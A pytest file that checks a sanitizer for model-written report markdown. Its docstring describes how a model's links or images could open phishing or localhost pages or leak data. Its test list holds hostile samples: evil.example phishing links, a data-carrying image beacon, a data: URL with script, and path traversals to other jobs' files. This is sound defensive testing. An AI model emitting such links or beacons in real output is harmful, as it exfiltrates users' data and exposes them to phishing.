"""The rendered report points nowhere but at the job's own files and its own anchors. A model's link to
another site would open that site inside the console's frame (a page asking for the person's keys, or a
server on another port of 127.0.0.1, which the console's SameSite cookie reaches: cookies ignore ports),
and an image from another site would carry data out as soon as the report is shown."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from ops.web.app import safe_report_html

FOREIGN = [
    "[자료 출처](https://evil.example/phish?total=157685452)",
    "<https://evil.example/autolink>",
    "[같은 사이트의 다른 포트](http://127.0.0.1:9/collect)",
    "[프로토콜 상대](//evil.example/relative)",
    "[콘솔의 다른 경로](/api/jobs)",
    "![비콘](https://evil.example/beacon.png?d=157685452)",
    "[데이터](data:text/html,<script>alert(1)</script>)",
    "[다른 작업](../../deep-insight-20260101T000000Z-0123456789abcdef0123456789abcdef/files/x.html)",
    "[인코딩된 상위](%2e%2e/%2E%2E/other/files/x.html)",
    "[역슬래시](\\\\evil.example/x)",
]


class Targets(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [value or "" for name, value in attrs if name in ("href", "src")]


def targets(html: str) -> list[str]:
    parser = Targets()
    parser.feed(html)
    return parser.found


@pytest.mark.parametrize("markdown", FOREIGN)
def test_a_link_or_image_off_the_job_is_text_not_a_target(markdown):
    assert targets(safe_report_html(f"보고서 {markdown}\n")) == []


def test_the_jobs_own_files_and_anchors_stay_links():
    html = safe_report_html("![차트](sales_by_category.png) [자세히](details.csv) [위로](#ref-1)\n")
    assert targets(html) == ["sales_by_category.png", "details.csv", "#ref-1"]
